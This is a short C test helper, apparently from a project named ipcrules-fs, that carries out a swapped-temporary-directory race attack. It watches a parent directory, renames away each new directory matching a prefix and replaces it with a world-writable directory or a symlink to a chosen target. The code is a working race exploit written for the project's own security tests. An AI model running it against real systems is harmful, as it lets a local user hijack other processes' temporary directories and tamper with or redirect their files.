/* The swapped-temporary-directory attack on ipcrules-fs, as a user who may write to
   the parent directory (built and run as uid 65534 by tests/security.rs). Our own
   code, after the attack review's rswap.c.

   rswap own PARENT PREFIX: whenever a directory whose name starts with PREFIX appears
     in PARENT, rename it away and make a directory of our own (mode 0777) under that
     name.
   rswap link PARENT PREFIX TARGET: the same, with a symlink to TARGET instead.

   Prints "ready" once the watch is in place, then one "swapped NAME" line per swap. */
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include "watch.h"

int main(int argc, char **argv) {
  if (argc < 4) return 100;
  int link = !strcmp(argv[1], "link");
  if (link && argc < 5) return 100;
  const char *dir = argv[2], *prefix = argv[3];
  int fd = watch_creates(dir);
  if (fd < 0) return 111;
  say_ready();
  unsigned long n = 0;
  char last[256] = "";
  for (;;) {
    char buf[16384] __attribute__((aligned(8)));
    ssize_t got = read(fd, buf, sizeof buf);
    if (got <= 0) continue;
    FOR_EACH_EVENT(e, buf, got) {
      if (!e->len || !(e->mask & IN_ISDIR) || strncmp(e->name, prefix, strlen(prefix))) continue;
      /* Our own mkdir under that name is an event too. */
      if (!strcmp(e->name, last)) continue;
      snprintf(last, sizeof last, "%s", e->name);
      char src[4096], away[4096];
      snprintf(src, sizeof src, "%s/%s", dir, e->name);
      snprintf(away, sizeof away, "%s/zz-away-%lu", dir, n);
      if (rename(src, away) < 0) continue;
      int r = link ? symlink(argv[4], src) : (mkdir(src, 0777) || chmod(src, 0777));
      if (r == 0) printf("swapped %s %lu\n", e->name, ++n);
    }
  }
}
